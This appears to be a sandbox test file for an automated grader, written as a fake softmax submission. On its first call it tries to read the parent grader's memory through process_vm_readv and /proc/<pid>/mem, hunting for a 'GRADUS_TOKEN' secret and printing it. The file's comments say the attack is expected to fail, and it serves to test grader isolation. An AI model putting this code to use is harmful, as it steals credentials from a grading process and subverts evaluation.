// attack: reads the secrets in its parent's memory, by a system call and through /proc
// expect: wrong
// because: the call is not allowed, there is no /proc, and the grader's memory is not for others
#include <cerrno>
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <string>
#include <sys/uio.h>
#include <unistd.h>
#include <vector>

#include "tp1/softmax.hpp"

namespace {

void print_secrets(const std::vector<char>& memory) {
  const char secret[] = "GRADUS_TOKEN=";
  for (std::size_t i = 0; i + 64 < memory.size(); ++i) {
    if (std::memcmp(&memory[i], secret, sizeof secret - 1) == 0) std::printf("%.60s\n", &memory[i]);
  }
}

bool read_memory() {
  const pid_t grader = getppid();
  char byte = 0;
  const iovec here{&byte, 1};
  const iovec there{&byte, 1};
  errno = 0;
  // Whom the kernel tells that the address is wrong, it would let read a right one.
  if (process_vm_readv(grader, &here, 1, &there, 1, 0) >= 0 || errno == EFAULT) {
    std::puts("LOOT may read the grader's memory");
  }
  const std::string folder = "/proc/" + std::to_string(grader);
  const int memory = open((folder + "/mem").c_str(), O_RDONLY);
  std::FILE* const maps = std::fopen((folder + "/maps").c_str(), "r");
  if (memory >= 0) std::puts("LOOT opened the grader's memory");
  if (maps != nullptr) std::puts("LOOT knows where the grader's memory is");
  unsigned long first = 0;
  unsigned long last = 0;
  while (memory >= 0 && maps != nullptr &&
         std::fscanf(maps, "%lx-%lx%*[^\n]", &first, &last) == 2) {
    if (last - first > std::size_t{64} << 20) continue;
    std::vector<char> bytes(last - first);
    if (pread(memory, bytes.data(), bytes.size(), static_cast<off_t>(first)) > 0) {
      print_secrets(bytes);
    }
  }
  std::fflush(stdout);
  return true;
}

}  // namespace

nn::Vector tp1::softmax(const nn::Vector& logits) {
  [[maybe_unused]] static const bool read = read_memory();
  return logits;
}
